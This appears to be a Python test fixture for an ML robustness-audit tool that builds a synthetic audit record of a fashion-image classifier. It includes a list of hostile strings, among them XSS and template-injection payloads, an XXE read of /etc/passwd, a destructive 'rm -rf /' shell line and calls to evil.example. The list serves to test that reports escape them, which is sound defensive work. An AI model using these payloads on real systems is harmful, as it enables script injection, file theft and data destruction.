"""A realistic audit record with its evidence: every kind of figure, every status, several variants, hostile strings."""

from __future__ import annotations

import hashlib
from collections.abc import Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import numpy as np
from auditorch.attacks.statistics import rate_interval
from auditorch.reports.record import (
    AuditRecord,
    Chart,
    DataInfo,
    Evidence,
    Figure,
    Finding,
    Gallery,
    Gate,
    Item,
    Line,
    Matrix,
    Metric,
    ModelInfo,
    Picture,
    Result,
    Table,
    VariantRecord,
)
from numpy.typing import NDArray
from safetensors.numpy import save

CLASSES = ("T-shirt", "Trouser", "Pullover", "Dress", "Coat", "Sandal", "Shirt", "Sneaker", "Bag", "Ankle boot")

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}}{% raw %}",
    "</style><style>*{display:none}</style>",
    "javascript:alert(1)",
    "<svg onload=alert(1)><animate onbegin=alert(1)>",
    "</script><script src=//evil.example/x.js></script>",
    "' onmouseover='alert(1)",
    "<!--<iframe src=http://evil.example>",
    "]]>&lt;b&gt;&#60;u&#62;",
    "</title><script>alert(2)</script>",
    "</textarea><img src=x onerror=alert(3)>",
    "<a href=javascript:alert(1)>click</a>",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=x.swf><embed src=x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button>go",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x",
    "<svg><script>alert(1)</script></svg>",
    "<svg><foreignObject><body onload=alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'>",
    "</svg></text><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<style>@import '//evil.example/x.css';</style>",
    "color:red;background:url(//evil.example/p.png)",
    "expression(alert(1))",
    "{{ config }}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{# comment #}",
    "${alert(1)}",
    "`${alert(1)}`",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&#x3C;script&#x3E;alert(1)",
    "&quot; onclick=&quot;alert(1)",
    "\\u003cscript\\u003ealert(1)",
    "--><script>alert(1)</script><!--",
    "--!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "</td></tr></table><h1>PASSED</h1>",
    "</details></section></main>",
    "</system-out></testsuite>",
    "x' id='verdict' class='badge pass",
    "../../../etc/passwd",
    "C:\\..\\..\\secret",
    "$(touch pwned) `id` ; rm -rf /",
    "!include /etc/passwd",
    "!!python/object/apply:os.system [id]",
    "![x](http://evil.example/pixel.png)",
    "<http://evil.example>",
    "www.evil.example and mailto:a@evil.example",
    "- [ ] task\n\n***\n> quote",
    "\u202egnp.exe\u202c",
    "a\x00b\x1b[31mred",
    "| cell | `code` **bold** @maintainers [x](http://evil.example)\n# heading",
    "x" * 400,
)
"""Attacks on whoever reads a report: HTML, SVG, CSS, templates, XML, YAML, shells, Markdown, terminals, layout."""

VARIANTS = (
    ("base", "base", "Base model", 0.914, 0.062, 0.021),
    ("adversarial_training", "adversarial_training", "Adversarial training", 0.867, 0.641, 0.018),
    ("regularization", "regularization", "Regularisation", 0.917, 0.118, 0.013),
    ("dp_sgd", "dp_sgd", "DP-SGD (ε = 8)", 0.842, 0.093, 0.009),
    ("dp_sgd_2", "dp_sgd", "DP-SGD (ε = 2)", 0.793, 0.101, 0.008),
)


def rate(
    name: str, value: float, n: int = 1000, better: bool | None = True, label: str = "", method: str = "wilson"
) -> Metric:
    """A rate with its Wilson interval."""
    low, high = rate_interval(round(value * n), n)
    return Metric(
        name=name,
        value=value,
        ci_low=low,
        ci_high=high,
        n=n,
        unit="rate",
        higher_is_better=better,
        label=label,
        method=method,
    )


def example(
    directory: Path, variants: int = 5, items: int = 6, side: int = 28, channels: int = 1, n: int = 1000
) -> AuditRecord:
    """An audit of a fashion classifier; writes its evidence under ``directory``."""
    built = tuple(_variant(directory, place, items, side, channels, n) for place in range(variants))
    return AuditRecord(
        name="fashion-cnn",
        created=datetime(2026, 11, 23, 14, 5, tzinfo=UTC),
        seconds=312.4,
        tool={"version": "0.1.0"},
        environment={"python": "3.11.9", "torch": "2.13.0", "device": "cpu", "platform": "Linux x86_64"},
        spec={
            "version": 1,
            "name": "fashion-cnn",
            "checks": ["performance", {"evasion": {"id": "linf", "eps": 8 / 255}}],
        },
        spec_sha256=_hash(b"spec"),
        model=ModelInfo(
            source="model.py:build",
            sha256=_hash(b"model"),
            weights="model.safetensors",
            modality="image",
            access=("gradients", "scores", "labels"),
            parameters=206_922,
            architecture="SmallCNN",
        ),
        data=DataInfo(source="test.npz", sha256=_hash(b"data"), n=n, classes=CLASSES, shape=(28, 28)),
        seed=0,
        verdict="fail",
        gates=_gates(variants),
        variants=built,
        not_covered=(
            "Poisoning and backdoors: the training data were not examined.",
            "Adaptive attacks beyond the listed ones; a stronger attacker may do better.",
        ),
    )


def hostile(record: AuditRecord) -> AuditRecord:
    """The record with every string that comes from users or data replaced by an attack on its readers."""
    names = iter(range(10**9))

    def spoil(value: Any, key: str = "") -> Any:
        if isinstance(value, dict):
            return {name: spoil(part, name) for name, part in value.items()}
        if isinstance(value, list):
            return [spoil(part, key) for part in value]
        if isinstance(value, str) and key not in _KEPT:
            return HOSTILE[next(names) % len(HOSTILE)]
        return value

    document = spoil(record.model_dump(mode="json"))
    document["spec"] = {text: text for text in HOSTILE}
    document["environment"] = {text: text for text in HOSTILE}
    return AuditRecord.model_validate(document)


_KEPT = ("created", "kind", "style", "x_scale", "y_scale", "severity", "status", "verdict", "draw", "unit")


def empty() -> AuditRecord:
    """The smallest valid record: no gates, no variants."""
    return AuditRecord(
        name="empty",
        created=datetime(2026, 1, 2, tzinfo=UTC),
        tool={"version": "0.1.0"},
        environment={},
        model=ModelInfo(source="m", sha256="0" * 64, modality="tabular", access=()),
        data=DataInfo(source="d", sha256="0" * 64, n=0, classes=()),
        seed=0,
        verdict="none",
        variants=(),
    )


def _gates(variants: int) -> tuple[Gate, ...]:
    gates = [
        Gate(
            expression="performance.accuracy >= 0.85",
            verdict="pass",
            value=0.914,
            ci_low=0.895,
            ci_high=0.930,
            threshold=0.85,
            operator=">=",
            unit="rate",
            check="performance",
            n=1000,
            reason="The whole interval lies above 0.85.",
        ),
        Gate(
            expression="linf.robust_accuracy >= 0.40",
            verdict="fail",
            value=0.062,
            ci_low=0.0487,
            ci_high=0.0787,
            threshold=0.40,
            operator=">=",
            unit="rate",
            check="linf",
            n=1000,
            reason="The whole interval lies below 0.4.",
        ),
        Gate(
            expression="membership.tpr_at_fpr_0.001 <= 0.01",
            verdict="inconclusive",
            value=0.004,
            ci_low=0.0011,
            ci_high=0.0102,
            threshold=0.01,
            operator="<=",
            unit="rate",
            check="membership",
            n=1000,
            reason="The interval contains 0.01; about 1,400 samples would decide.",
        ),
    ]
    if variants > 1:
        gates.append(
            Gate(
                expression="adversarial_training:l2.robust_accuracy >= 0.5",
                variant="adversarial_training",
                verdict="error",
                operator=">=",
                check="l2",
                reason="The check l2 did not run on adversarial_training.",
            )
        )
    return tuple(gates)


def _variant(directory: Path, place: int, items: int, side: int, channels: int, n: int) -> VariantRecord:
    name, kind, title, clean, robust, leak = VARIANTS[place]
    history = Line(name="training loss", x=tuple(range(1, 9)), y=tuple(1.2 * 0.7**i + 0.2 for i in range(8)))
    own = (
        ()
        if place == 0
        else (
            Metric(name="train_seconds", value=41.25 + place, unit="s", label="Training time"),
            *(
                (Metric(name="epsilon", value=7.98, label="Privacy budget ε", higher_is_better=False),)
                if kind == "dp_sgd"
                else ()
            ),
        )
    )
    return VariantRecord(
        id=name,
        kind=kind,
        title=title,
        summary="" if place == 0 else f"The base model, retrained for 8 epochs with {title.lower()}.",
        parameters={} if place == 0 else {"epochs": 8, "eps": 8 / 255, "schedule": [0.1, 0.01], "train": "train.npz"},
        metrics=own,
        figures=()
        if place == 0
        else (Chart(id="history", title="Training loss", x_label="epoch", y_label="loss", lines=(history,)),),
        warnings=("The PRV accountant ran out of memory; ε is from the looser RDP accountant.",) if place == 4 else (),
        evidence=(Evidence(path=f"evidence/{name}/weights.safetensors", sha256=_hash(name.encode()), kind="weights"),),
        seconds=41.0 * place,
        results=(
            _performance(clean, n, place),
            _evasion(directory, name, "linf", clean, robust, items, side, channels, n),
            _l2(place),
            _attribution(directory, name, items, side, channels, place),
            _membership(leak, n),
            _third_party(place),
        ),
    )


def _performance(clean: float, n: int, place: int) -> Result:
    rng = np.random.default_rng(place)
    counts = np.diag(rng.binomial(n // 10, clean, 10))
    for c in range(10):
        wrong = n // 10 - counts[c, c]
        counts[c] += rng.multinomial(wrong, [0 if j == c else 1 / 9 for j in range(10)])
    recalls = [counts[c, c] / counts[c].sum() for c in range(10)]
    bounds = [rate_interval(int(counts[c, c]), int(counts[c].sum())) for c in range(10)]
    bins = [0.05 + 0.1 * i for i in range(10)]
    return Result(
        check="performance",
        id="performance",
        title="Predictive performance",
        summary=f"It is right on {clean:.1%} of the test samples; Shirt and Pullover are confused most.",
        status="ok",
        metrics=(
            rate("accuracy", clean, n),
            rate("balanced_accuracy", clean - 0.001, n),
            rate("top_3_accuracy", 0.9994, 5000),
            Metric(
                name="f1_macro",
                value=clean - 0.004,
                ci_low=clean - 0.02,
                ci_high=clean + 0.015,
                n=n,
                unit="rate",
                higher_is_better=True,
                method="bootstrap",
                label="F1 (macro)",
            ),
            Metric(name="log_loss", value=0.2713, ci_low=0.24, ci_high=0.31, n=n, unit="nats", higher_is_better=False),
            Metric(
                name="expected_calibration_error",
                value=0.0213,
                ci_low=0.014,
                ci_high=0.034,
                n=n,
                unit="rate",
                higher_is_better=False,
                method="bootstrap",
            ),
            Metric(name="roc_auc", value=None, label="ROC AUC"),
        ),
        findings=(
            Finding(
                severity="medium",
                title="Shirt is recognised far worse than the other classes",
                detail="Recall on Shirt is 71.0 % (61.5–79.0) against 93.6 % on the rest.",
                remedy="Add shirts to the training set, or report per-class accuracy to users.",
                standards=("ISO/IEC 24029-1",),
            ),
        ),
        figures=(
            Chart(
                id="reliability",
                title="Reliability",
                caption="Below the diagonal the model is overconfident.",
                x_label="confidence",
                y_label="accuracy",
                x_range=(0, 1),
                y_range=(0, 1),
                diagonal=True,
                lines=(
                    Line(
                        name="model",
                        x=tuple(bins),
                        y=(None, None, *(b * 0.96 for b in bins[2:])),
                        low=(None, None, *(b * 0.96 - 0.05 for b in bins[2:])),
                        high=(None, None, *(min(1, b * 0.96 + 0.05) for b in bins[2:])),
                    ),
                ),
            ),
            Chart(
                id="recall",
                title="Recall by class",
                style="bar",
                x_label="class",
                y_label="recall",
                y_range=(0, 1),
                categories=CLASSES,
                lines=(
                    Line(
                        name="recall",
                        x=tuple(range(10)),
                        y=tuple(recalls),
                        low=tuple(b[0] for b in bounds),
                        high=tuple(b[1] for b in bounds),
                    ),
                ),
            ),
            Matrix(
                id="confusion",
                title="Confusion matrix",
                caption="Shaded by share of the row.",
                row_label="true",
                column_label="predicted",
                labels=CLASSES,
                values=tuple(tuple(float(v) for v in row) for row in counts),
            ),
            Chart(
                id="confidence",
                title="How sure it is",
                style="bar",
                x_label="confidence",
                y_label="samples",
                lines=(Line(name="samples", x=tuple(bins), y=(0, 0, 1, 6, 14, 31, 48, 77, 142, 681)),),
            ),
            Table(
                id="slices",
                title="Accuracy by class",
                columns=("class", "accuracy", "n", "note"),
                rows=tuple((c, r, n // 10, None) for c, r in zip(CLASSES, recalls, strict=True)),
            ),
        ),
        warnings=("ROC AUC is undefined: a class has no samples.",),
        not_covered=("Drift: all samples come from one source.",),
        references=("Guo et al. 2017, On Calibration of Modern Neural Networks, arXiv:1706.04599",),
        seconds=1.3,
        forwards=n,
    )


def _evasion(
    directory: Path, variant: str, name: str, clean: float, robust: float, items: int, side: int, channels: int, n: int
) -> Result:
    evidence = _write(
        directory, f"evidence/{variant}/{name}.safetensors", "adversarial", _pictures(items, side, channels)
    )
    eps = tuple(i / 255 for i in (0, 1, 2, 4, 8, 12, 16))
    curve = tuple(robust + (clean - robust) * float(np.exp(-60 * e)) for e in eps)
    return Result(
        check="evasion",
        id=name,
        title="Evasion within linf ≤ 8/255",
        summary=f"Changes of at most 8/255 a pixel, invisible to the eye, leave {robust:.1%} of the samples right.",
        status="ok",
        parameters={"norm": "linf", "eps": 8 / 255, "attack": "apgd", "steps": 100, "restarts": 1, "targeted": False},
        metrics=(
            rate("clean_accuracy", clean, n),
            rate("robust_accuracy", robust, n),
            rate("attack_success_rate", 1 - robust / clean, n, better=False),
            Metric(name="distortion_median", value=0.0117, n=852, higher_is_better=True),
        ),
        findings=(
            Finding(
                severity="critical" if robust < 0.2 else "low",
                title="Imperceptible changes break the model",
                detail=f"Robust accuracy at 8/255 is {robust:.1%}; half of the samples fall to 0.0117 (3/255).",
                remedy="Train on adversarial examples, or restrict who may submit inputs.",
                standards=("MITRE ATLAS AML.T0015", "MITRE ATLAS AML.T0043", "OWASP ML01", "NISTAML.022"),
            ),
        ),
        figures=(
            Chart(
                id="curve",
                title="Robust accuracy against perturbation budget",
                caption="Where the line falls, the model breaks.",
                x_label="eps (linf)",
                y_label="robust accuracy",
                y_range=(0, 1),
                lines=(
                    Line(
                        name="apgd",
                        x=eps,
                        y=curve,
                        low=tuple(c - 0.02 for c in curve),
                        high=tuple(c + 0.02 for c in curve),
                    ),
                ),
            ),
            Chart(
                id="attacks",
                title="By attack",
                x_label="eps (linf)",
                y_label="robust accuracy",
                lines=(
                    Line(name="fgsm", x=eps, y=tuple(min(1, c + 0.1) for c in curve)),
                    Line(name="pgd", x=eps, y=curve),
                    Line(name="chance", x=(eps[0], eps[-1]), y=(0.1, 0.1), dashed=True),
                ),
            ),
            Gallery(
                id="examples",
                title="Adversarial examples",
                caption="The first samples that were right and became wrong.",
                evidence=evidence.path,
                pictures=(
                    Picture(tensor="clean", title="clean"),
                    Picture(tensor="x_adv", title="perturbed"),
                    Picture(tensor="x_adv", minus="clean", title="difference", draw="difference"),
                ),
                items=tuple(
                    Item(
                        index=i, sample_id=f"test-{i}", captions=("Ankle boot 99.3 %", "Sneaker 87.1 %", "linf 0.0314")
                    )
                    for i in range(items)
                ),
            ),
        ),
        evidence=(evidence,),
        not_covered=("Attackers who may change more than 8/255, rotate or crop.",),
        references=("Croce and Hein 2020, Reliable evaluation of adversarial robustness, arXiv:2003.01690",),
        standards=("MITRE ATLAS AML.T0015", "OWASP ML01"),
        seconds=64.2,
        forwards=104_211,
        backwards=98_500,
    )


def _l2(place: int) -> Result:
    failed = place == 1
    return Result(
        check="evasion",
        id="l2",
        title="Evasion within l2 ≤ 0.5",
        summary="" if failed else "Small changes in l2 norm leave a third of the samples right.",
        status="error" if failed else "ok",
        error="CUDA out of memory at batch size 1; free memory or lower data.limit." if failed else "",
        parameters={"norm": "l2", "eps": 0.5},
        metrics=()
        if failed
        else (rate("robust_accuracy", 0.31 + 0.02 * place), rate("attack_success_rate", 0.6, better=False)),
    )


def _attribution(directory: Path, variant: str, items: int, side: int, channels: int, place: int) -> Result:
    if place == 3:
        return Result(
            check="attribution",
            id="attribution",
            title="Attribution",
            status="skipped",
            error="The module has hooks that Captum cannot follow.",
        )
    pictures = _pictures(items, side, channels)
    heat = (pictures["x_adv"] - 0.5) * np.linspace(0, 1, side, dtype=np.float32)
    evidence = _write(
        directory,
        f"evidence/{variant}/attribution.safetensors",
        "attributions",
        {**pictures, "heat_clean": heat, "heat_adv": heat[..., ::-1].copy()},
    )
    shares = tuple(i / 20 for i in range(21))
    return Result(
        check="attribution",
        id="attribution",
        title="Integrated Gradients",
        summary="The maps point at pixels that matter, but an attack moves 62 % of the top pixels.",
        status="ok",
        metrics=(
            Metric(
                name="infidelity",
                value=0.00021,
                ci_low=0.00018,
                ci_high=0.00025,
                n=64,
                higher_is_better=False,
                method="bootstrap",
            ),
            Metric(name="top_overlap", value=0.38, ci_low=0.33, ci_high=0.44, n=64, unit="rate", higher_is_better=True),
            Metric(name="deletion_auc", value=float("nan"), n=0),
            Metric(name="log_odds", value=float("inf")),
        ),
        figures=(
            Chart(
                id="deletion",
                title="Deletion",
                caption="A good map falls faster than chance.",
                x_label="share of pixels deleted",
                y_label="confidence",
                y_range=(0, 1),
                lines=(
                    Line(name="integrated gradients", x=shares, y=tuple(float(np.exp(-5 * s)) for s in shares)),
                    Line(name="random control", x=shares, y=tuple(1 - 0.9 * s for s in shares), dashed=True),
                ),
            ),
            Gallery(
                id="maps",
                title="Heat maps",
                evidence=evidence.path,
                pictures=(
                    Picture(tensor="clean", title="clean"),
                    Picture(tensor="heat_clean", title="why", draw="heat"),
                    Picture(tensor="x_adv", title="attacked"),
                    Picture(tensor="heat_adv", title="why, attacked", draw="heat"),
                ),
                items=tuple(
                    Item(index=i, sample_id=f"test-{i}", captions=("Coat", "", "Shirt", "")) for i in range(items)
                ),
            ),
        ),
        evidence=(evidence,),
        references=("Sundararajan et al. 2017, Axiomatic Attribution for Deep Networks, arXiv:1703.01365",),
        seconds=12.0,
        forwards=3200,
        backwards=3200,
    )


def _membership(leak: float, n: int) -> Result:
    fpr = tuple(float(v) for v in np.concatenate([[0], np.logspace(-3, 0, 400)]))
    tpr = tuple(min(1.0, f**0.93 + 0 * leak) if f else 0.0 for f in fpr)
    return Result(
        check="membership",
        id="membership",
        title="Membership inference by loss threshold",
        summary="Someone who queries the model can tell few training samples from others.",
        status="ok",
        metrics=(
            rate("auc", 0.541, 2000, better=False, label="AUC"),
            rate("tpr_at_fpr_0.01", leak, n, better=False, label="TPR at 1 % FPR", method="clopper-pearson"),
            rate("tpr_at_fpr_0.001", leak / 5, n, better=False, label="TPR at 0.1 % FPR", method="clopper-pearson"),
        ),
        findings=(
            Finding(
                severity="info",
                title="The loss tells little about membership",
                detail="AUC 0.541.",
                standards=("OWASP ML04",),
            ),
        ),
        figures=(
            Chart(
                id="roc",
                title="ROC on logarithmic axes",
                caption="Only the left edge matters: few false accusations.",
                style="step",
                x_label="false positive rate",
                y_label="true positive rate",
                x_scale="log",
                y_scale="log",
                x_range=(0.001, 1),
                y_range=(0.001, 1),
                diagonal=True,
                lines=(Line(name="loss threshold", x=fpr, y=tpr),),
            ),
        ),
        references=("Carlini et al. 2022, Membership Inference Attacks From First Principles, arXiv:2112.03570",),
    )


def _third_party(place: int) -> Result:
    figures: Sequence[Figure] = (
        Chart(
            id="cloud",
            title="Cloud of points",
            style="scatter",
            x_label="size",
            y_label="score",
            y_scale="log",
            lines=(
                Line(
                    name="samples",
                    x=tuple(float(i) for i in range(60)),
                    y=tuple(10.0 ** (i % 5 - 2) for i in range(60)),
                ),
            ),
        ),
    )
    return Result(
        check="acme_energy",
        id="energy",
        title="Energy per decision",
        summary="One decision costs about 0.8 mJ.",
        status="ok",
        metrics=(
            Metric(
                name="energy",
                value=0.8 + place,
                ci_low=0.7 + place,
                ci_high=0.9 + place,
                n=50,
                unit="mJ",
                higher_is_better=False,
            ),
        ),
        figures=tuple(figures),
    )


def _pictures(items: int, side: int, channels: int) -> dict[str, NDArray[np.float32]]:
    rng = np.random.default_rng(0)
    axis = np.linspace(-1, 1, side, dtype=np.float32)
    blob = np.exp(-3 * (axis[:, None] ** 2 + (axis[None] * 1.5) ** 2))
    clean = np.clip(blob + rng.normal(0, 0.03, (items, channels, side, side)), 0, 1).astype(np.float32)
    noise = (8 / 255 * np.sign(rng.normal(size=clean.shape))).astype(np.float32)
    return {"clean": clean, "x_adv": np.clip(clean + noise, 0, 1).astype(np.float32)}


def _write(directory: Path, path: str, kind: str, tensors: dict[str, NDArray[np.float32]]) -> Evidence:
    data = save(tensors)
    (directory / path).parent.mkdir(parents=True, exist_ok=True)
    (directory / path).write_bytes(data)
    return Evidence(path=path, sha256=_hash(data), kind=kind)


def _hash(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()
